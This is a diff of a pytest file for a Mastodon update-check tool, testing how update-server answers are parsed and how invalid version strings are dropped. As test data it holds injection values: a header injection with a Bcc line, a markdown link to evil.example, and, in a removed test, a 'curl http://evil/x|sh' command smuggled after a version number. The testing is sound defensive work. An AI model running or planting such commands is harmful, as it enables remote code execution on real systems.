@@ -1,7 +1,6 @@
 """The update server's answer: what is read, what is left out, and under which path."""
 
 from datetime import date
-from typing import Any
 
 import pytest
 
@@ -11,11 +10,6 @@ from mastodon_update_check.domain.notices import UpdateNotice, UpdateType
 from mastodon_update_check.errors import Cause, CheckError
 
 NOTES = "https://github.com/mastodon/mastodon/releases/tag/v4.2.9"
-
-
-def answer(**fields: object) -> dict[str, Any]:
-    """Return an answer that lists 4.2.9 with these fields."""
-    return {"updatesAvailable": [{"version": "4.2.9", **fields}]}
 
 
 def listed(*entries: object) -> Feed:
@@ -32,10 +26,10 @@ def test_real_answer_is_read() -> None:
 
 def test_support_dates_are_read() -> None:
     """The date of a listed update, and the date of the branch that was asked about."""
-    feed = parse_feed({**answer(endOfSupport="2027-02-20"), "currentVersion": {"endOfSupport": "2026-12-17"}})
+    entry = {"version": "4.2.9", "endOfSupport": "2027-02-20"}
+    feed = parse_feed({"updatesAvailable": [entry], "currentVersion": {"endOfSupport": "2026-12-17"}})
     assert (date(2026, 12, 17), ()) == (feed.ends_on, feed.warnings)
     assert feed.updates == (update("4.2.9", ends_on=date(2027, 2, 20)),)
-    assert feed.updates[0].end_of_support_on == date(2027, 2, 20)
 
 
 def test_empty_list_is_an_answer() -> None:
@@ -86,11 +80,7 @@ LEFT_OUT = "[1] is left out: expected an object with a version, got "
         pytest.param("4.2.9", f'{LEFT_OUT}"4.2.9"', id="an entry that is a text"),
         pytest.param(None, f"{LEFT_OUT}null", id="an entry that is null"),
         pytest.param({}, LEFT_OUT + "{}", id="no version"),
-        pytest.param(
-            {"version": 4},
-            LEFT_OUT + '{"version": 4}',
-            id="a number as the version",
-        ),
+        pytest.param({"version": 4}, LEFT_OUT + '{"version": 4}', id="a number as the version"),
         pytest.param(
             {"version": "latest"},
             "[1].version is left out: 'latest' is not a version: expected three numbers at the start",
@@ -100,6 +90,12 @@ LEFT_OUT = "[1] is left out: expected an object with a version, got "
             {"version": "4.2.9\r\nBcc: all@social.example"},
             "[1].version is left out: '4.2.9 Bcc: all@social.example' is not a version: expected printable ASCII",
             id="a version with line breaks",
+        ),
+        pytest.param(
+            {"version": "4.5.1 [click](http://evil.example)", "urgent": True},
+            "[1].version is left out: '4.5.1 [click](http://evil.example)' is not a version: expected at most 60 of "
+            "the characters A-Z a-z 0-9 . + ~ _ - behind the numbers",
+            id="text that would be shown in subjects and chats",
         ),
         pytest.param(
             {"version": "4.2." + "9" * 100_000},
@@ -115,15 +111,6 @@ def test_bad_version_skips_its_entry_alone(entry: object, warning: str) -> None:
         updates=(update("4.2.8"), update("4.2.10")), is_complete=False, warnings=(f"updatesAvailable{warning}",)
     )
     assert feed == expected
-
-
-@pytest.mark.parametrize("text", ["4.5.1; curl http://evil/x|sh #", "4.5.1 [click](http://evil.example)"])
-def test_version_with_other_text_is_left_out(text: str) -> None:
-    """Versions are shown in subjects and chats, so what follows the numbers is limited."""
-    feed = listed({"version": text, "urgent": True}, {"version": "4.5.2"})
-    assert feed.updates == (update("4.5.2"),)
-    assert len(feed.warnings) == 1
-    assert feed.warnings[0].startswith(f"updatesAvailable[0].version is left out: {text!r}")
 
 
 @pytest.mark.parametrize(
@@ -173,8 +160,3 @@ def test_type_that_was_said_stands() -> None:
     """Mastodon's own fixture calls 5.0.0 minor; so do we then."""
     feed = listed({"version": "5.0.0", "type": "minor"}, {"version": "4.2.1", "type": "patch"})
     assert (patch("4.2.1"), minor("5.0.0")) == newer_updates(feed, version("4.2.0"))
-
-
-def test_without_a_list_nothing_is_newer() -> None:
-    """An answer without a list names no updates."""
-    assert newer_updates(Feed(updates=(), is_complete=False), version("4.2.0")) == ()
